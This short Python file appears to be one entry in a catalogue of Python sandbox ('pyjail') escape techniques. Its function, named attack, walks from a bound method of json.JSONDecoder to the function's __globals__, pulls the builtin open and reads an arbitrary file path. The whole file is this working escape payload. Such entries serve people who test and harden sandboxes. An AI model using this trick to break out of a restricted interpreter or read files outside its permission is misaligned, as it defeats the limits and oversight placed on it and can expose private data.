# A bound method leads to its function.
# after: read
# source: pyjail: globals of a function
import json
def attack(path, **_):
    found = json.JSONDecoder().decode.__func__.__globals__
    return {"text": found["__builtins__"]["open"](path).read()}
